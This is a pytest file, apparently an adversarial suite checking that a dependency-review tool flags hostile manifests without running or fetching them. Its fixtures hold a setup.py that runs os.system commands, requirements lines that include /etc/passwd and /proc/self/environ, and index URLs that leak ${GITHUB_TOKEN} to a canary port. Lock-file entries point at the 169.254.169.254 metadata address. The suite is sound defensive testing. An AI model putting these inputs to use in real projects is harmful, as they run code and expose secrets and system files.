"""Cases 13 to 16: a manifest is read as text; nothing in it is run, opened, expanded or fetched."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.adversarial.shown import flagged, told
from tests.product.stage import spoken

if TYPE_CHECKING:
    from tests.adversarial.arena import Arena

pytestmark = pytest.mark.xdist_group("adversarial")


def setup_files(arena: Arena) -> dict[str, str]:
    run = f"import os\nos.system('touch {arena.canaries.touch}/touched; cat {arena.canaries.file}')\n"
    return {f"{place}{name}": run for place in ("", "here/", "evil/") for name in ("setup.py", "conftest.py", "build_backend.py")}


def test_case_13_requirements_that_are_places_are_told_and_not_built(arena: Arena) -> None:
    address = f"http://127.0.0.1:{arena.canaries.tcp_port}/evil.whl"
    lines = ["./evil", "-e .", "-e ./here", f"evil @ file://{arena.canaries.file}", f"evil @ {address}", "git+ssh://127.0.0.1/x", address]
    lines += ["evil @ git+file:///", "here/", "jinja2==3.1.3"]
    backend = '[build-system]\nrequires = []\nbuild-backend = "build_backend"\nbackend-path = ["."]\n[project]\nname = "x"\nversion = "1"\n'
    pull = arena.propose({**setup_files(arena), "requirements.txt": "\n".join(lines) + "\n", "pyproject.toml": backend})

    check = arena.review(pull)

    assert flagged(check) == {"requirements.txt"}
    assert "comes from an address or a file, not from an index" in told(pull)
    assert "an editable installation has no release" in told(pull)


def test_case_14_requirements_that_include_foreign_files_read_none(arena: Arena) -> None:
    secret = arena.canaries.file
    lines = ["-r ../../../../../../etc/passwd", "-r /etc/passwd", "-c /proc/self/environ", f"-r {secret}", f"-c {secret}"]
    lines += [f"--requirement={secret}", f"-r file://{secret}", "-r ./../requirements.txt", "-r requirements.txt", "jinja2==3.1.3"]
    pull = arena.propose({"requirements.txt": "\n".join(lines) + "\n"})

    check = arena.review(pull)

    assert flagged(check) == {"requirements.txt"}
    assert "includes a file outside the repository" in told(pull)
    assert "root:x:" not in spoken(pull) + arena.stage.logged()


def test_case_15_another_index_is_told_and_never_asked(arena: Arena) -> None:
    address = f"http://127.0.0.1:{arena.canaries.tcp_port}/${{GITHUB_TOKEN}}/simple"
    lines = [f"--index-url {address}", f"--extra-index-url {address}", f"--find-links {address}", "--trusted-host 127.0.0.1"]
    lines += [f"--find-links {arena.canaries.touch}", "-i https://me:hush-hush@packages.example/simple"]
    lines += ["jinja2==3.1.3", "${GITHUB_TOKEN}==1"]
    pull = arena.propose({"requirements.txt": "\n".join(lines) + "\n"})

    check = arena.review(pull)

    assert flagged(check) == {"requirements.txt"}
    assert "changes where packages come from" in told(pull)
    assert "packages.example" in told(pull)
    assert "hush-hush" not in told(pull)


def test_case_16_addresses_and_paths_in_lock_files_lead_nowhere(arena: Arena) -> None:
    address = f"http://127.0.0.1:{arena.canaries.tcp_port}/x.tgz"
    npm = {
        "lockfileVersion": 3,
        "packages": {
            "node_modules/../../x": {"version": "1.0.0", "resolved": address},
            "node_modules/far": {"version": "1.0.0", "resolved": "http://169.254.169.254/latest/meta-data/"},
            "node_modules/near": {"version": "1.0.0", "resolved": f"file:{arena.canaries.file}", "link": True},
        },
    }
    poetry = f'[[package]]\nname = "../x"\nversion = "1"\n[package.source]\ntype = "url"\nurl = "{address}"\n'
    poetry += f'\n[[package]]\nname = "y"\nversion = "1"\n[package.source]\ntype = "directory"\nurl = "{arena.canaries.touch}"\n'
    go = f"module x\nrequire ../../x v1.0.0\nreplace x => {arena.canaries.touch}\n"
    pull = arena.propose({"package-lock.json": json.dumps(npm), "poetry.lock": poetry, "go.mod": go})

    check = arena.review(pull)

    assert flagged(check) == {"package-lock.json"}
    assert "not a package at an exact version" in told(pull) or arena.incomplete(check)
